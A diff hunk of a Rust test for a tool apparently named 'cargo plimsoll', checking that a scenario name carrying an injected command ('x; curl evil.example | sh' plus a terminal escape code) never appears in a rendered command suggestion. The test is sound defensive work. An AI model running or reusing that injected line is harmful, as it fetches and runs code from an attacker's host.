@@ -422,7 +422,6 @@ fn an_allowance_that_nothing_uses() {
 #[test]
 fn a_name_that_no_scenario_can_have_is_in_no_command() {
     let mut report = regressed();
-    assert!(rendered(&report).contains("cargo plimsoll accept lru_churn"));
     report.scenario = "x; curl evil.example | sh \u{1b}[2J".to_owned();
     let text = rendered(&report);
     assert!(!text.contains("cargo plimsoll"), "{text}");
